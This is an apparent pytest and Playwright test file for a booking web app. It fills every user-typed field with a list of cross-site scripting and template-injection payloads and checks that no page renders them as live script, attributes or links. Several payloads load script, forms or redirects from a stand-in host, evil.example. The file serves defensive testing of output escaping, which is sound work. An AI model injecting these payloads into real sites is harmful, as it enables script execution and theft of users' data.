"""What people typed, on every page that shows it: it stands there as it was typed, and nothing of it comes alive.

Every text of the demo network that somebody types, or that a browser or another program sends, is the same string of
tricks. What the browser complains of (a script that the policy stopped, a request to another host) fails the test in
`arrive`; here is looked for what came to be an element, an attribute or an address.
"""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page
from sqlalchemy import select

from tests.conftest import empty_all_tables
from tests.e2e.conftest import DESK, Site
from tests.e2e.walks import sign_in
from tests.every_page import addresses, things_of_the_demo
from tirefit import models
from tirefit.database import command, db
from tirefit.demo import Login, load_demo

TRICKS = (
    "javascript:hacked()",  # first: an address is one by its beginning
    "<script>hacked()</script>",
    "<script class=hacked src=https://evil.example/x.js></script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img class=hacked src=x onerror=hacked()>",
    "<img src=https://evil.example/pixel.gif>",
    "<svg/onload=hacked() class=hacked>",
    "<svg><animate onbegin=hacked() attributeName=x dur=1s></svg>",
    "<math><mi class=hacked xlink:href=javascript:hacked()>x</mi></math>",
    "<details open ontoggle=hacked() class=hacked>",
    "<input autofocus onfocus=hacked() class=hacked>",
    "<iframe class=hacked srcdoc='<script>hacked()</script>'></iframe>",
    "<object class=hacked data=javascript:hacked()></object>",
    "<a class=hacked href=javascript:hacked()>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style class=hacked>*{color:red}</style>",
    "<form class=hacked action=https://evil.example/><button>x</button></form>",
    "<b hx-get=/board hx-trigger=load class=hacked>x</b>",
    "<b hx-on:click=hacked() class=hacked>x</b>",
    '"><b class=hacked onclick=hacked()>',
    "'><b class=hacked onclick=hacked()>",
    '" onmouseover="hacked()" hacked="',
    "' onfocus='hacked()' autofocus='",
    "` onclick=hacked() `",
    "</script><b class=hacked>",
    "</textarea></title></style><b class=hacked>",
    "--><b class=hacked>",
    "{{7*7}}{% print 7*7 %}${7*7}#{7*7}",
    "\\u003cb class=hacked\\u003e &lt;b class=hacked&gt; %3Cb class=hacked%3E",
    "<!-- <textarea><title><plaintext>",  # last: they would swallow the others
)
TYPED = {  # what stands in these columns has been typed by a customer, or by somebody of the station
    models.ServicePoint: ("name", "city", "address"),
    models.CarType: ("names",),
    models.ServiceCategory: ("names",),
    models.Service: ("names", "descriptions"),
    models.BookingService: ("names",),
    models.ServicePost: ("name", "description"),
    models.ScheduleTemplate: ("name",),
    models.ScheduleException: ("reason",),
    models.Reservation: ("reason",),
    models.User: ("name",),
    models.UserSession: ("browser",),
    models.ApiToken: ("name",),
    models.Booking: ("plate", "customer_name", "notes", "cancel_reason"),
    models.Notification: ("last_error",),
}
CAME_ALIVE = """() => {
    const all = [...document.querySelectorAll("*")];
    const is_made_of_it = each => each.matches(".hacked, base, iframe:not([sandbox]), object, plaintext");
    const is_code = ({name, value}) => /^(on|hx-on|hacked)/.test(name)
        || /^(xlink:href|href|src|action|formaction|data)$/.test(name) && /^\\s*javascript:/i.test(value);
    const alive = all.filter(each => is_made_of_it(each) || [...each.attributes].some(is_code));
    const counted = document.body.innerText.includes("4949") ? ["7 * 7 = 49"] : [];
    return [...alive.map(each => each.outerHTML.slice(0, 200)), ...counted];
}"""


@pytest.fixture
def demo(site: Site) -> Iterator[list[Login]]:
    with site.app.app_context():
        yield load_demo()
        empty_all_tables()


def test_nothing_that_was_typed_comes_alive_on_any_page(arrive, site, demo):
    things = things_of_the_demo()
    customer, admin = arrive(**DESK), arrive(**DESK)
    customer.go(f"/b/{things.links['ticket.open_link']}")
    sign_in(admin, demo, "admin@tirefit.example")
    type_tricks_everywhere("".join(TRICKS))
    found, shown = [], set()
    for visitor in (customer, admin):
        for name, address in addresses(site.app, things, for_customers=visitor is customer):
            visitor.go(address)
            visitor.page.wait_for_load_state()
            found += [f"{name}: {element}" for element in visitor.page.evaluate(CAME_ALIVE)]
            if "<img class=hacked" in visitor.page.inner_text("body"):
                shown.add(name)

    assert not found, "\n".join(found)
    assert len(shown) > 40, sorted(shown)


@pytest.mark.parametrize("place", ["<p>{}</p>", '<p title="{}">', "<p title='{}'>", "<a href='{}'>", "<!-- {} -->"])
def test_what_comes_alive_is_seen(browser, place):
    """The control: the same string, put into a page by somebody who forgot."""
    page: Page = browser.new_page(java_script_enabled=True)
    page.context.set_offline(True)
    staying = (trick for trick in TRICKS if "refresh" not in trick)  # that one works: the page leaves
    page.set_content(place.format("".join(staying)), wait_until="commit")

    assert page.evaluate(CAME_ALIVE)
    page.context.close()


@command
def type_tricks_everywhere(tricks: str) -> None:
    for model, names in TYPED.items():
        for row in db.session.scalars(select(model)):
            for name in names:
                setattr(row, name, tricked(getattr(row, name), tricks))
    for entry in db.session.scalars(select(models.AuditEntry)).all():  # what is in the journal stays as it is
        values = {column.key: getattr(entry, column.key) for column in models.AuditEntry.__table__.c}
        values |= {name: tricked(values[name], tricks) for name in ("label", "before", "after")}
        db.session.add(models.AuditEntry(**values | {"id": None}))


def tricked(value: object, tricks: str) -> object:
    """The same shape, with tricks for texts; what is not there stays so."""
    if isinstance(value, dict):
        return {key: tricked(each, tricks) for key, each in value.items()}
    if isinstance(value, list):
        return [tricked(each, tricks) for each in value]
    return tricks if isinstance(value, str) else value
